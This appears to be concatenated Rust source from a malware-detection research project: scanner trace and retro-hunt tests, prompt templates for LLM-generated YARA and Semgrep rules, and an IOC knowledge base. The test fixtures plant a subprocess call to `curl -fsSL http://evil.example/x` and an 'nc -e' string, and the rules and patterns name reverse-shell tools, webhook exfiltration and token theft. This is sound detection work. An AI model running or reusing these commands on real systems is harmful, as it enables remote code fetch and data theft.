        2 => format!("import socket\nsocket.socket()\nx = {i}\n"),
        _ => format!("def f{i}():\n    return {i}\n"),
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(12))]

    /// With ring capacity >= submissions, **every** completed scan
    /// appears in the flight recorder, each trace's stage sum is
    /// bounded by its wall time, and flagged/fired agree with the
    /// verdict that came back.
    #[test]
    fn every_scan_is_traced_and_stage_sums_fit_the_wall(
        count in 1usize..24,
        workers in 1usize..5,
        cache_on in any::<bool>(),
    ) {
        let hub = hub(HubConfig {
            workers,
            cache_capacity: if cache_on { 128 } else { 0 },
            trace_capacity: 64,
            ..HubConfig::default()
        });
        let requests: Vec<ScanRequest> = (0..count)
            .map(|i| ScanRequest::from_source("upload.py", body(i)))
            .collect();
        let digests: Vec<String> = requests.iter().map(|r| r.digest_hex()).collect();
        let verdicts = hub.scan_ordered(requests);
        let traces = hub.traces();
        prop_assert_eq!(traces.len(), count, "one trace per completed scan");
        prop_assert_eq!(hub.traces_recorded(), count as u64);
        // Sequence numbers are unique; each trace obeys the timing and
        // provenance invariants.
        let seqs: HashSet<u64> = traces.iter().map(|t| t.seq).collect();
        prop_assert_eq!(seqs.len(), count);
        for t in &traces {
            prop_assert!(
                t.stages.total() <= t.wall_ns,
                "stage sum {} exceeds wall {} in trace #{}",
                t.stages.total(),
                t.wall_ns,
                t.seq
            );
            prop_assert_eq!(t.flagged, !t.fired.is_empty());
            prop_assert_eq!(t.digest.is_some(), cache_on);
            prop_assert!(t.bytes > 0);
        }
        // With the verdict cache on, every verdict is explainable by
        // digest: the fired rules in the trace match the verdict.
        if cache_on {
            for (digest, verdict) in digests.iter().zip(&verdicts) {
                let trace = hub.trace_for_digest(digest).expect("trace by digest");
                let yara: Vec<&str> = trace
                    .fired
                    .iter()
                    .filter(|f| f.engine == FiredEngine::Yara)
                    .map(|f| f.rule.as_str())
                    .collect();
                prop_assert_eq!(&yara, &verdict.yara.iter().map(String::as_str).collect::<Vec<_>>());
                let semgrep: Vec<&str> = trace
                    .fired
                    .iter()
                    .filter(|f| f.engine == FiredEngine::Semgrep)
                    .map(|f| f.rule.as_str())
                    .collect();
                prop_assert_eq!(
                    &semgrep,
                    &verdict.semgrep.iter().map(String::as_str).collect::<Vec<_>>()
                );
                let layer_count = trace
                    .fired
                    .iter()
                    .filter(|f| f.engine == FiredEngine::YaraLayer)
                    .count();
                prop_assert_eq!(layer_count, verdict.layers.len());
            }
        }
        // The stage histograms saw every scan.
        let stats = hub.stats();
        prop_assert_eq!(stats.latency.scan.count, count as u64);
        prop_assert!(stats.latency.artifact.count >= 1);
        prop_assert!(stats.latency.scan.p50_ns > 0);
        prop_assert!(stats.latency.scan.max_ns >= stats.latency.scan.p50_ns);
    }
}

/// The ring never exceeds its capacity under concurrent submitters, and
/// the survivors are exactly the newest traces.
#[test]
fn recorder_stays_bounded_under_concurrent_submitters() {
    const CAPACITY: usize = 8;
    const CLIENTS: usize = 4;
    const PER_CLIENT: usize = 20;
    let hub = hub(HubConfig {
        workers: 4,
        cache_capacity: 0,
        trace_capacity: CAPACITY,
        ..HubConfig::default()
    });
    std::thread::scope(|scope| {
        for client in 0..CLIENTS {
            let hub = &hub;
            scope.spawn(move || {
                for i in 0..PER_CLIENT {
                    let _ = hub
                        .submit(ScanRequest::from_source(
                            "upload.py",
                            body(client * PER_CLIENT + i),
                        ))
                        .wait();
                    assert!(hub.traces().len() <= CAPACITY, "ring exceeded capacity");
                }
            });
        }
    });
    assert_eq!(hub.traces_recorded(), (CLIENTS * PER_CLIENT) as u64);
    let traces = hub.traces();
    assert_eq!(traces.len(), CAPACITY);
    // Oldest-first snapshot of the newest completions: seq strictly
    // increases across the ring.
    for pair in traces.windows(2) {
        assert!(pair[0].seq < pair[1].seq);
    }
    // The worst trace is the slowest survivor.
    let worst = hub.worst_trace().expect("worst trace");
    assert_eq!(
        worst.wall_ns,
        traces.iter().map(|t| t.wall_ns).max().expect("max wall")
    );
}

/// Zero trace capacity keeps histograms but records no traces.
#[test]
fn zero_trace_capacity_disables_the_ring_but_not_histograms() {
    let hub = hub(HubConfig {
        trace_capacity: 0,
        ..HubConfig::default()
    });
    for i in 0..4 {
        let _ = hub
            .submit(ScanRequest::from_source("upload.py", body(i)))
            .wait();
    }
    assert!(hub.traces().is_empty());
    assert_eq!(hub.traces_recorded(), 0);
    assert!(hub.worst_trace().is_none());
    let stats = hub.stats();
    assert_eq!(stats.latency.scan.count, 4);
    assert!(stats.latency.scan.p99_ns > 0);
}

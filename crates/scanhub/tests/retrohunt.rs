//! Differential property suite for retro-hunting: the inverted
//! atom→digest index may change *how much* work a rule deployment does,
//! never *what it finds*. [`ScanHub::retro_hunt`] must produce per-rule
//! hit sets and per-digest verdicts byte-identical to
//! [`ScanHub::retro_rescan`] (the exhaustive every-digest oracle) on
//! randomized corpora and obfuscation mutants — including layer-only
//! atoms, rules with no usable atoms (conservative full candidacy), and
//! dead rules — and each confirmed verdict must equal a fresh full scan
//! of that file restricted to the changed rules.

use std::collections::{HashMap, HashSet};

use corpus::FAMILIES;
use obfuscate::{EvasionProfile, Obfuscator};
use proptest::prelude::*;
use scanhub::{FileEntry, HubConfig, RuleEngine, ScanHub, ScanRequest};
use semgrep_engine::CompiledSemgrepRules;
use yara_engine::CompiledRules;

/// The bundle the hub is *live* with while history accumulates.
const LIVE_YARA: &str = r#"
rule shell { strings: $a = "os.system" condition: $a }
rule beacon { strings: $a = "requests.get" $b = "requests.post" condition: any of them }
rule retuned { strings: $a = "wget http" condition: $a }
"#;

const LIVE_SEMGREP: &str = "rules:
  - id: sys-exec
    languages: [python]
    message: shell execution
    pattern: os.system($CMD)
";

/// The candidate bundle a retro-hunt screens history with. Relative to
/// the live bundle: `shell`/`beacon`/`sys-exec` are unchanged,
/// `retuned` keeps its name but swaps its atom, and the additions cover
/// every candidacy path — plain atom, layer-only atom, regex-only
/// (non-exhaustive → full candidacy), `nocase`, a sub-gram atom
/// (`"MZ"` < 3 bytes → exact 2-gram postings, still gated), a dead
/// rule (zero candidates), a Semgrep atom rule and a Semgrep always-on
/// rule.
const NEXT_YARA: &str = r#"
rule shell { strings: $a = "os.system" condition: $a }
rule beacon { strings: $a = "requests.get" $b = "requests.post" condition: any of them }
rule retuned { strings: $a = "curl -fsSL" condition: $a }
rule dropper { strings: $a = "nc -e" condition: $a }
rule layered_ioc { strings: $a = "secret_exfil_token" condition: $a }
rule regex_only { strings: $re = /tok[0-9]{6}/ condition: $re }
rule caseless { strings: $a = "SubProcess.Popen" nocase condition: $a }
rule magic { strings: $a = "MZ" condition: $a }
rule dead { condition: false }
"#;

const NEXT_SEMGREP: &str = "rules:
  - id: sys-exec
    languages: [python]
    message: shell execution
    pattern: os.system($CMD)
  - id: eval-exec
    languages: [python]
    message: dynamic code
    pattern: eval($X)
  - id: any-call
    languages: [python]
    message: opaque (always-on)
    pattern: $F(secret_marker_zz)
";

fn live_bundle() -> (CompiledRules, CompiledSemgrepRules) {
    (
        yara_engine::compile(LIVE_YARA).expect("live yara"),
        semgrep_engine::compile(LIVE_SEMGREP).expect("live semgrep"),
    )
}

fn next_bundle() -> (CompiledRules, CompiledSemgrepRules) {
    (
        yara_engine::compile(NEXT_YARA).expect("next yara"),
        semgrep_engine::compile(NEXT_SEMGREP).expect("next semgrep"),
    )
}

fn live_hub(artifact_capacity: usize) -> ScanHub {
    let (yara, semgrep) = live_bundle();
    ScanHub::new(
        Some(yara),
        Some(semgrep),
        HubConfig {
            workers: 2,
            cache_capacity: 0,
            artifact_cache_capacity: artifact_capacity,
            max_decode_depth: 2,
            ..HubConfig::default()
        },
    )
}

/// Uploads planted so every changed rule has at least one true hit in
/// history — including one whose IOC exists *only* inside a
/// base64-decoded layer.
fn planted_uploads() -> Vec<ScanRequest> {
    let blob = digest::base64::encode(b"secret_exfil_token: beacon home now");
    vec![
        ScanRequest::from_source(
            "planted_fetch.py",
            "import subprocess\nsubprocess.run('curl -fsSL http://evil.example/x')\n",
        ),
        ScanRequest::from_source("planted_layer.py", format!("blob = '{blob}'\n")),
        ScanRequest::from_source(
            "planted_nocase.py",
            "h = SUBPROCESS.POPEN\nshell = 'nc -e'\n",
        ),
        ScanRequest::from_source("planted_eval.py", "eval(input())\ntoken = 'tok123456'\n"),
        ScanRequest::from_source("planted_marker.py", "f(secret_marker_zz)\n"),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(8))]

    #[test]
    fn index_assisted_hunt_equals_exhaustive_rescan(
        family_idx in 0usize..30,
        variant in 0u64..10,
        seed in any::<u64>(),
        profile_idx in 0usize..3,
        legit_idx in 0usize..40,
    ) {
        let hub = live_hub(4096);
        let family = &FAMILIES[family_idx];
        let malware = corpus::generate_malware_package(family, variant, seed).0;
        let profile = EvasionProfile::standard().swap_remove(profile_idx);
        let mutant = Obfuscator::new(profile, seed).obfuscate_package(&malware);
        let legit = corpus::generate_legit_package(legit_idx, seed);
        for pkg in [&malware, &mutant, &legit] {
            hub.submit(ScanRequest::from_package(pkg)).wait();
        }
        for req in planted_uploads() {
            hub.submit(req).wait();
        }

        let (yara, semgrep) = next_bundle();
        let deployment = hub.deploy_rules(Some(yara), Some(semgrep));
        prop_assert!(
            deployment.delta.changed.iter().all(|c| {
                c.name != "shell" && c.name != "beacon" && c.name != "sys-exec"
            }),
            "unchanged rules must not be re-hunted: {:?}",
            deployment.delta.changed
        );
        prop_assert!(deployment.delta.new_atoms.contains(&"curl -fssl".to_owned()));

        let report = hub.retro_hunt(&deployment).expect("retro index enabled");
        let oracle = hub.retro_rescan(&deployment).expect("oracle");
        prop_assert!(
            report.same_hits(&oracle),
            "index-assisted hunt diverged from the exhaustive rescan:\n{:?}\nvs\n{:?}",
            report.rules,
            oracle.rules
        );
        prop_assert_eq!(report.digests_indexed, oracle.digests_indexed);

        let rule = |name: &str| {
            report
                .rules
                .iter()
                .find(|r| r.rule == name)
                .unwrap_or_else(|| panic!("{name} missing from report"))
        };
        // Every planted IOC is found — the layer-only one through the
        // decoded-layer posting lists.
        prop_assert!(!rule("retuned").digests.is_empty());
        prop_assert!(!rule("dropper").digests.is_empty());
        prop_assert!(!rule("layered_ioc").digests.is_empty(), "layer-only atom lost");
        prop_assert!(!rule("caseless").digests.is_empty());
        prop_assert!(!rule("eval-exec").digests.is_empty());
        // A dead rule is exhaustive with no atoms: zero candidates,
        // zero hits, no fallback.
        prop_assert_eq!(rule("dead").candidates, 0);
        prop_assert!(rule("dead").digests.is_empty());
        // Regex-only atoms cannot be indexed: candidacy falls back to
        // the whole history, never to silence. Sub-gram atoms like
        // `"MZ"` now answer from exact 2-gram postings, so they gate
        // (at minimum, `planted_fetch.py` contains no "mz" byte pair)
        // and no longer count as full-candidacy fallbacks.
        prop_assert_eq!(rule("regex_only").candidates, report.digests_indexed);
        prop_assert!(rule("magic").candidates < report.digests_indexed);
        prop_assert_eq!(report.full_candidacy_rules, 1, "only regex_only falls back now");
        // Exhaustive-atom rules actually prune.
        prop_assert!(rule("layered_ioc").candidates < report.digests_indexed);
    }

    #[test]
    fn eviction_keeps_hunt_and_rescan_in_agreement(
        family_idx in 0usize..30,
        seed in any::<u64>(),
        capacity in 3usize..9,
    ) {
        // A small artifact cache forces evictions mid-history; the
        // retro index must shed exactly the evicted digests and the
        // differential must still hold over the resident survivors.
        let hub = live_hub(capacity);
        let family = &FAMILIES[family_idx];
        let pkg = corpus::generate_malware_package(family, 0, seed).0;
        hub.submit(ScanRequest::from_package(&pkg)).wait();
        for req in planted_uploads() {
            hub.submit(req).wait();
        }
        let (_, digests) = hub.retro_index_size();
        prop_assert!(digests as usize <= capacity, "index outgrew the cache");

        let (yara, semgrep) = next_bundle();
        let deployment = hub.deploy_rules(Some(yara), Some(semgrep));
        let report = hub.retro_hunt(&deployment).expect("retro index enabled");
        let oracle = hub.retro_rescan(&deployment).expect("oracle");
        prop_assert!(report.same_hits(&oracle), "diverged after evictions");
        prop_assert_eq!(report.digests_indexed, digests);
        prop_assert_eq!(oracle.digests_indexed, digests);
    }
}

#[test]
fn short_atom_rules_gate_through_exact_gram_postings() {
    // Regression: atoms shorter than the 3-gram width used to force
    // full candidacy (`candidates_for_atom` returned `None`), so a
    // rule like `"MZ"` rescanned the entire history on every deploy.
    // They now answer from exact 1/2-gram postings — pinned against
    // the exhaustive rescan oracle.
    let hub = live_hub(4096);
    hub.submit(ScanRequest::from_source(
        "dropper.py",
        "stub = 'MZ\\x90' # pe carving\n",
    ))
    .wait();
    hub.submit(ScanRequest::from_source("tilde.py", "home = '~root'\n"))
        .wait();
    for req in planted_uploads() {
        hub.submit(req).wait();
    }

    let short_yara = r#"
rule magic2 { strings: $a = "MZ" condition: $a }
rule magic1 { strings: $a = "~" condition: $a }
"#;
    let yara = yara_engine::compile(short_yara).expect("short-atom yara");
    let deployment = hub.deploy_rules(Some(yara), None);
    let report = hub.retro_hunt(&deployment).expect("retro index enabled");
    let oracle = hub.retro_rescan(&deployment).expect("oracle");
    assert!(
        report.same_hits(&oracle),
        "short-atom hunt diverged from the exhaustive rescan:\n{:?}\nvs\n{:?}",
        report.rules,
        oracle.rules
    );
    // Neither rule fell back to full candidacy, and both actually
    // prune: the planted uploads contain neither "mz" nor "~".
    assert_eq!(report.full_candidacy_rules, 0);
    let rule = |name: &str| {
        report
            .rules
            .iter()
            .find(|r| r.rule == name)
            .unwrap_or_else(|| panic!("{name} missing from report"))
    };
    for name in ["magic2", "magic1"] {
        assert!(
            rule(name).candidates < report.digests_indexed,
            "{name} did not prune: {} candidates of {} digests",
            rule(name).candidates,
            report.digests_indexed
        );
        assert!(
            !rule(name).digests.is_empty(),
            "{name} lost its planted hit"
        );
    }
}

#[test]
fn confirmed_verdicts_match_a_fresh_full_scan_of_each_file() {
    // Second differential axis: for every resident file, the retro
    // verdict (strictly gated, artifact-cached, digest-named) must
    // equal a cold full scan of that single file by a hub running the
    // *new* bundle, restricted to the changed rules.
    let hub = live_hub(4096);
    let pkg = corpus::generate_malware_package(&FAMILIES[0], 0, 42).0;
    let pkg_req = ScanRequest::from_package(&pkg);
    hub.submit(pkg_req.clone()).wait();
    let uploads = planted_uploads();
    for req in &uploads {
        hub.submit(req.clone()).wait();
    }
    let mut by_digest: HashMap<String, FileEntry> = HashMap::new();
    for req in uploads.iter().chain([&pkg_req]) {
        for f in req.files() {
            by_digest.insert(digest::to_hex(&f.digest()), f.clone());
        }
    }

    let (yara, semgrep) = next_bundle();
    let deployment = hub.deploy_rules(Some(yara.clone()), Some(semgrep.clone()));
    let changed: HashSet<(RuleEngine, String)> = deployment
        .delta
        .changed
        .iter()
        .map(|c| (c.engine, c.name.clone()))
        .collect();
    let report = hub.retro_hunt(&deployment).expect("retro index enabled");
    let verdicts: HashMap<&str, _> = report
        .verdicts
        .iter()
        .map(|v| (v.digest.as_str(), v))
        .collect();

    let fresh = ScanHub::new(
        Some(yara),
        Some(semgrep),
        HubConfig {
            workers: 1,
            cache_capacity: 0,
            artifact_cache_capacity: 0,
            max_decode_depth: 2,
            ..HubConfig::default()
        },
    );
    for (hex, file) in &by_digest {
        let full = fresh
            .submit(ScanRequest::from_files(vec![file.clone()]))
            .wait();
        let mut want_yara: Vec<&str> = full
            .yara
            .iter()
            .map(String::as_str)
            .filter(|r| changed.contains(&(RuleEngine::Yara, (*r).to_owned())))
            .collect();
        want_yara.sort_unstable();
        let mut want_semgrep: Vec<&str> = full
            .semgrep
            .iter()
            .map(String::as_str)
            .filter(|r| changed.contains(&(RuleEngine::Semgrep, (*r).to_owned())))
            .collect();
        want_semgrep.sort_unstable();
        // Layer findings compare modulo the `file` field: the retro
        // path names the digest, the live path names the upload entry.
        let layer_key = |l: &scanhub::LayerFinding| {
            (l.rule.clone(), format!("{:?}", l.encoding), l.depth, l.line)
        };
        let mut want_layers: Vec<_> = full
            .layers
            .iter()
            .filter(|l| changed.contains(&(RuleEngine::Yara, l.rule.clone())))
            .map(layer_key)
            .collect();
        want_layers.sort();
        match verdicts.get(hex.as_str()) {
            Some(v) => {
                let got_yara: Vec<&str> = v.yara.iter().map(String::as_str).collect();
                let got_semgrep: Vec<&str> = v.semgrep.iter().map(String::as_str).collect();
                let mut got_layers: Vec<_> = v.layers.iter().map(layer_key).collect();
                got_layers.sort();
                assert_eq!(got_yara, want_yara, "yara diverged on {}", file.name());
                assert_eq!(
                    got_semgrep,
                    want_semgrep,
                    "semgrep diverged on {}",
                    file.name()
                );
                assert_eq!(
                    got_layers,
                    want_layers,
                    "layers diverged on {}",
                    file.name()
                );
            }
            None => {
                assert!(
                    want_yara.is_empty() && want_semgrep.is_empty() && want_layers.is_empty(),
                    "retro-hunt missed hits on {}: yara {:?} semgrep {:?}",
                    file.name(),
                    want_yara,
                    want_semgrep
                );
            }
        }
    }
}

//! Structured prompts mirroring Tables III–V of the paper.

/// Which rule format a prompt requests.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum RuleFormat {
    /// YARA text rules.
    Yara,
    /// Semgrep YAML rules.
    Semgrep,
}

impl RuleFormat {
    /// Display name used inside prompt text.
    pub fn label(&self) -> &'static str {
        match self {
            RuleFormat::Yara => "YARA",
            RuleFormat::Semgrep => "Semgrep",
        }
    }
}

/// The three prompt shapes of the pipeline.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum PromptKind {
    /// Table III: craft rules from basic units.
    Craft {
        /// Requested rule format.
        format: RuleFormat,
    },
    /// Table IV: self-reflect and optimize.
    Refine {
        /// Requested rule format.
        format: RuleFormat,
    },
    /// Table V: fix a rule given compiler errors.
    Fix {
        /// Requested rule format.
        format: RuleFormat,
    },
}

/// A structured prompt: system role, user inputs, optional error/few-shot.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Prompt {
    /// System-role instructions (the paper's Table III/IV/V text).
    pub system: String,
    /// User inputs: basic units, analysis results, rule text.
    pub inputs: Vec<String>,
    /// Few-shot rule examples appended to the prompt.
    pub few_shot: Option<String>,
    /// Compiler error messages (fix prompts; agent observation).
    pub error: Option<String>,
    /// Package metadata JSON, for metadata-based rules.
    pub metadata_json: Option<String>,
    /// Which handler the prompt drives.
    pub kind: PromptKind,
}

/// Few-shot YARA example embedded in craft prompts (Table III's
/// `Few Shot: {rule file}` slot; the example is Table I's).
pub const YARA_FEW_SHOT: &str = r#"rule base64_blob {
    meta:
        description = "Base64 encoded blob"
    strings:
        $a = /([A-Za-z0-9+\/]{4}){3,}(==|=)?/
    condition:
        $a
}"#;

/// Few-shot Semgrep example (Table I's lower half).
pub const SEMGREP_FEW_SHOT: &str = r#"rules:
  - id: detect-torrent-client-info-retrieval
    languages: [python]
    message: "Detected torrent client info retrieval"
    severity: WARNING
    pattern: $CLIENT.torrents_info(torrent_hashes=$HASH)"#;

impl Prompt {
    /// Builds a Table III crafting prompt over basic units.
    pub fn craft(format: RuleFormat, units: &[String], metadata_json: Option<String>) -> Prompt {
        let system = format!(
            "Task. As a senior malware code analyst, please analyze the following code \
             samples from the same malware cluster and design effective {} rules. These \
             samples are variants from the same malware family.\n\
             Thought Process:\n\
             1. Initial Analysis: audit the basic unit and summarize the code.\n\
             2. In-depth Analysis: extract features or strings (IoC, file operations, \
             network activity, encryption, privilege, anti-debug).\n\
             3. External Knowledge Analysis: match against known malicious behavior patterns.\n\
             4. Understanding and Validation: ensure reasoning consistency and coverage.\n\
             Output. 1. Analysis Result (*.txt). 2. {} rules based on the analysis result.",
            format.label(),
            format.label(),
        );
        let few_shot = Some(
            match format {
                RuleFormat::Yara => YARA_FEW_SHOT,
                RuleFormat::Semgrep => SEMGREP_FEW_SHOT,
            }
            .to_owned(),
        );
        Prompt {
            system,
            inputs: units.to_vec(),
            few_shot,
            error: None,
            metadata_json,
            kind: PromptKind::Craft { format },
        }
    }

    /// Builds a Table IV refinement prompt from the analysis result and
    /// the coarse-grained rule.
    pub fn refine(format: RuleFormat, analysis: &str, rule: &str) -> Prompt {
        let system = format!(
            "Task. You are a {} rule expert. Your task is to analyze and optimize the \
             input rules. Please follow these steps to ensure the rules are complete and \
             efficient:\n\
             1. Self-reflection: check that the rules align with the analysis results.\n\
             2. Optimize Rules: encapsulate malicious behaviors in the string section, \
             apply standard naming, merge overlapping rules with logical combinations, \
             keep the required structure, and minimize resource-intensive operations.",
            format.label(),
        );
        Prompt {
            system,
            inputs: vec![analysis.to_owned(), rule.to_owned()],
            few_shot: None,
            error: None,
            metadata_json: None,
            kind: PromptKind::Refine { format },
        }
    }

    /// Builds a Table V fix prompt from the rule, analysis and the
    /// compiler's error messages (the agent's observation memory).
    pub fn fix(format: RuleFormat, analysis: &str, rule: &str, errors: &str) -> Prompt {
        let system = format!(
            "Task. You are a {} rule expert. Your task is to fix and optimize the input \
             rules. Ensure the rules are complete, syntactically correct, and efficient:\n\
             1. Missing or Incomplete Parts. 2. Syntax Errors. 3. Undefined Strings in \
             Conditions. 4. Regular Expression Issues. 5. Invalid meta Field Values. \
             6. File Encoding Issues.",
            format.label(),
        );
        Prompt {
            system,
            inputs: vec![analysis.to_owned(), rule.to_owned()],
            few_shot: None,
            error: Some(errors.to_owned()),
            metadata_json: None,
            kind: PromptKind::Fix { format },
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn craft_prompt_carries_units_and_few_shot() {
        let p = Prompt::craft(RuleFormat::Yara, &["unit1".into(), "unit2".into()], None);
        assert_eq!(p.inputs.len(), 2);
        assert!(p.few_shot.as_deref().unwrap_or("").contains("base64_blob"));
        assert!(p.system.contains("senior malware code analyst"));
        assert!(matches!(
            p.kind,
            PromptKind::Craft {
                format: RuleFormat::Yara
            }
        ));
    }

    #[test]
    fn refine_prompt_shape() {
        let p = Prompt::refine(RuleFormat::Semgrep, "analysis", "rules: ...");
        assert!(p.system.contains("Self-reflection"));
        assert_eq!(p.inputs.len(), 2);
    }

    #[test]
    fn fix_prompt_carries_error() {
        let p = Prompt::fix(RuleFormat::Yara, "a", "rule x {}", "line 1: boom");
        assert_eq!(p.error.as_deref(), Some("line 1: boom"));
        assert!(p.system.contains("Undefined Strings"));
    }

    #[test]
    fn format_labels() {
        assert_eq!(RuleFormat::Yara.label(), "YARA");
        assert_eq!(RuleFormat::Semgrep.label(), "Semgrep");
    }

    #[test]
    fn few_shot_examples_compile() {
        assert!(yara_engine::compile(YARA_FEW_SHOT).is_ok());
        assert!(semgrep_engine::compile(SEMGREP_FEW_SHOT).is_ok());
    }
}

//! Retrieval-augmented generation (the paper's §VI extension).
//!
//! The paper notes that RuleLLM is a knowledge-intensive task where RAG
//! "can update security knowledge to guarantee the generated rule
//! quality" and mitigate hallucinations, but leaves it unimplemented.
//! This module supplies that extension: a [`KnowledgeBase`] of curated
//! security facts that is *retrieved against the prompt payload* and used
//! to (a) recover indicators the model missed, and (b) veto fabricated or
//! over-general strings before they reach a rule.

use textmatch::Regex;

use crate::analyzer::{Analysis, Indicator, IndicatorKind};

/// One curated security fact.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct KnowledgeEntry {
    /// Substring (or regex when `is_regex`) that triggers retrieval.
    pub pattern: String,
    /// Whether `pattern` is a regular expression.
    pub is_regex: bool,
    /// The indicator category the fact supports.
    pub kind: IndicatorKind,
    /// Analyst note (kept for report rendering).
    pub note: &'static str,
}

/// A retrieval store of security knowledge.
#[derive(Debug, Clone, Default)]
pub struct KnowledgeBase {
    entries: Vec<KnowledgeEntry>,
    /// Strings known to be ubiquitous in benign code; retrieval vetoes
    /// them out of analyses (anti-overgeneral knowledge).
    benign: Vec<&'static str>,
}

impl KnowledgeBase {
    /// An empty knowledge base (retrieval becomes a no-op).
    pub fn new() -> Self {
        KnowledgeBase::default()
    }

    /// The built-in OSS-malware knowledge base: abuse-heavy TLDs, known
    /// exfiltration endpoints, family markers, VM fingerprints, and the
    /// benign-string veto list.
    pub fn security_default() -> Self {
        let mut kb = KnowledgeBase::new();
        for (pattern, kind, note) in [
            (
                r"https?://[\w.-]+\.(xyz|top|icu|click|space|online|site)[/\w.-]*",
                IndicatorKind::Ioc,
                "URL on an abuse-heavy TLD",
            ),
            (
                r"discord\.com/api/webhooks/\d+/[\w-]+",
                IndicatorKind::Network,
                "Discord webhook exfiltration endpoint",
            ),
            (r"[\w.-]+\.onion", IndicatorKind::Ioc, "Tor hidden service"),
        ] {
            kb.entries.push(KnowledgeEntry {
                pattern: pattern.to_owned(),
                is_regex: true,
                kind,
                note,
            });
        }
        for (pattern, kind, note) in [
            ("w4sp", IndicatorKind::Ioc, "W4SP stealer family marker"),
            (
                "wasp-stealer",
                IndicatorKind::Ioc,
                "W4SP stealer family marker",
            ),
            (
                "080027",
                IndicatorKind::AntiDebug,
                "VirtualBox MAC prefix check",
            ),
            (
                "000c29",
                IndicatorKind::AntiDebug,
                "VMware MAC prefix check",
            ),
            ("crontab -", IndicatorKind::File, "cron persistence"),
            (
                "/Local Storage/leveldb",
                IndicatorKind::File,
                "browser token store",
            ),
            (
                "stratum+tcp://",
                IndicatorKind::Network,
                "mining pool protocol",
            ),
        ] {
            kb.entries.push(KnowledgeEntry {
                pattern: pattern.to_owned(),
                is_regex: false,
                kind,
                note,
            });
        }
        kb.benign = vec![
            "import os",
            "import sys",
            "import requests",
            "import base64",
            "subprocess",
            "open(",
            "def main",
            "print(",
            "evil_helper_3000",
            "self_destruct_sequence",
            "http://not-actually-present.invalid/payload",
            "DecryptAndLaunchMissiles",
        ];
        kb
    }

    /// Number of retrievable facts.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// Returns true when the base holds no facts.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Retrieves indicators supported by the knowledge base for `code`.
    pub fn retrieve(&self, code: &str) -> Vec<Indicator> {
        let mut out = Vec::new();
        let bytes = code.as_bytes();
        for entry in &self.entries {
            if entry.is_regex {
                let Ok(re) = Regex::new(&entry.pattern) else {
                    continue;
                };
                for m in re.find_all(bytes).into_iter().take(3) {
                    out.push(Indicator {
                        text: String::from_utf8_lossy(&bytes[m.start..m.end]).into_owned(),
                        kind: entry.kind,
                        is_regex: false,
                    });
                }
            } else if code.contains(&entry.pattern) {
                out.push(Indicator {
                    text: entry.pattern.clone(),
                    kind: entry.kind,
                    is_regex: false,
                });
            }
        }
        out
    }

    /// Augments an analysis with retrieved knowledge: re-adds facts the
    /// model missed (grounding against misses) and removes indicators the
    /// base knows to be benign or that the code provably does not contain
    /// (grounding against hallucination and over-general strings).
    pub fn ground(&self, analysis: &mut Analysis, code: &str) {
        // Veto: known-benign strings and fabrications absent from code.
        analysis.indicators.retain(|ind| {
            if self.benign.contains(&ind.text.as_str()) {
                return false;
            }
            ind.is_regex || code.contains(&ind.text)
        });
        // Recover: retrieved facts not already present.
        for fact in self.retrieve(code) {
            if !analysis.indicators.iter().any(|i| i.text == fact.text) {
                analysis.indicators.push(fact);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn default_base_is_populated() {
        let kb = KnowledgeBase::security_default();
        assert!(kb.len() >= 8);
        assert!(!kb.is_empty());
    }

    #[test]
    fn retrieves_abuse_tld_urls() {
        let kb = KnowledgeBase::security_default();
        let facts = kb.retrieve("requests.get('https://zorbex.xyz/tasks')");
        assert!(
            facts.iter().any(|f| f.text.contains("zorbex.xyz")),
            "{facts:?}"
        );
    }

    #[test]
    fn retrieves_family_markers() {
        let kb = KnowledgeBase::security_default();
        let facts = kb.retrieve("# w4sp-stage marker\n");
        assert!(facts.iter().any(|f| f.text == "w4sp"));
    }

    #[test]
    fn grounding_removes_hallucinations() {
        let kb = KnowledgeBase::security_default();
        let mut analysis = Analysis {
            indicators: vec![Indicator {
                text: "evil_helper_3000".into(),
                kind: IndicatorKind::Ioc,
                is_regex: false,
            }],
            summary: "x".into(),
        };
        kb.ground(&mut analysis, "print('clean')");
        assert!(analysis.indicators.is_empty());
    }

    #[test]
    fn grounding_removes_fabricated_strings_absent_from_code() {
        let kb = KnowledgeBase::security_default();
        let mut analysis = Analysis {
            indicators: vec![Indicator {
                text: "os.fork_bomb".into(),
                kind: IndicatorKind::Privilege,
                is_regex: false,
            }],
            summary: "x".into(),
        };
        kb.ground(&mut analysis, "import os\n");
        assert!(analysis.indicators.is_empty());
    }

    #[test]
    fn grounding_recovers_missed_facts() {
        let kb = KnowledgeBase::security_default();
        let mut analysis = Analysis::default();
        kb.ground(
            &mut analysis,
            "requests.post('https://discord.com/api/webhooks/123456789/abcDEF-ghi', json=d)",
        );
        assert!(
            analysis
                .indicators
                .iter()
                .any(|i| i.text.contains("discord.com/api/webhooks")),
            "{:?}",
            analysis.indicators
        );
    }

    #[test]
    fn grounding_keeps_real_indicators() {
        let kb = KnowledgeBase::security_default();
        let mut analysis = Analysis {
            indicators: vec![Indicator {
                text: "os.system".into(),
                kind: IndicatorKind::Privilege,
                is_regex: false,
            }],
            summary: "x".into(),
        };
        kb.ground(&mut analysis, "os.system('id')");
        assert_eq!(analysis.indicators.len(), 1);
    }

    #[test]
    fn empty_base_is_a_partial_noop() {
        let kb = KnowledgeBase::new();
        let mut analysis = Analysis {
            indicators: vec![Indicator {
                text: "os.system".into(),
                kind: IndicatorKind::Privilege,
                is_regex: false,
            }],
            summary: "x".into(),
        };
        kb.ground(&mut analysis, "os.system('id')");
        assert_eq!(analysis.indicators.len(), 1);
        assert!(kb.retrieve("anything").is_empty());
    }
}

//! `llm-sim` — the simulated large language model.
//!
//! The paper drives GPT-4o (and GPT-3.5, Claude-3.5-Sonnet,
//! Llama-3.1-70B) through three prompt shapes — crafting (Table III),
//! refining (Table IV) and fixing (Table V). No network model is available
//! here, so this crate substitutes a *deterministic analyst model*
//! (DESIGN.md): it performs real static analysis of the prompt payload
